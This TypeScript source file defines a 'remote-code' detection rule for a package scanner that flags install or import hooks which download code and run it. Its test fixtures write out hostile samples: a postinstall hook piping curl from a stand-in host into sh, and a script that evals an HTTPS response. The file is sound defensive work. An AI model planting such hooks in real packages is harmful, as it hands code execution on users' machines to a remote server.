import type { Flow, Rule, SinkKind } from '../lib/types.ts'
import { findingOfFlow, sourceInWords, when } from './finding.ts'

const running: ReadonlySet<SinkKind> = new Set([
  'evaluate',
  'command',
  'command-stdin',
  'load',
  'native-load',
])

/** Code that is fetched from the network and run: what was inspected is not what executes. */
export const remoteCode: Rule = {
  meta: {
    id: 'remote-code',
    title: 'Downloads code and runs it',
    severity: 'critical',
    description:
      'What a server answers is handed to a shell, an interpreter or eval. Whatever was read in this package, the program ' +
      'that runs is another one, chosen by that server at that moment, perhaps for this machine only.',
    references: ['eslint-scope 3.7.2 (2018): https.get, then eval', 'ua-parser-js 0.7.29 (2021)'],
    blindSpots: ['A download that another program runs later.'],
    examples: {
      flags: [
        {
          title: 'a hook pipes a download into a shell',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://get.a.invalid/i.sh | sh"}}',
          },
        },
        {
          title: 'a hook evaluates what a server answers',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "require('https').get('https://paste.invalid/raw', response => {\n" +
              "  response.on('data', chunk => eval(chunk.toString()))\n" +
              '})\n',
          },
        },
      ],
      passes: [
        {
          title: 'a hook downloads data and writes it to a cache',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "const fs = require('fs')\n" +
              "fetch('https://data.a.example/list.json')\n" +
              '  .then(answer => answer.text())\n' +
              "  .then(text => fs.writeFileSync('list.json', text))\n",
          },
        },
      ],
    },
  },
  check(inspection) {
    return inspection.flows.filter(isRemoteCode).map(flow => {
      const unasked = flow.phase === 'install' || flow.phase === 'import'
      return findingOfFlow(flow, {
        severity: unasked ? 'critical' : 'medium',
        action: unasked ? 'ask' : 'note',
        message: `${when(flow.phase, flow.byCall)} it runs ${sourceInWords(flow.source)} as a program (${flow.sink.api})`,
      })
    })
  },
}

function isRemoteCode(flow: Flow): boolean {
  return flow.source.kind === 'network' && running.has(flow.sink.kind)
}
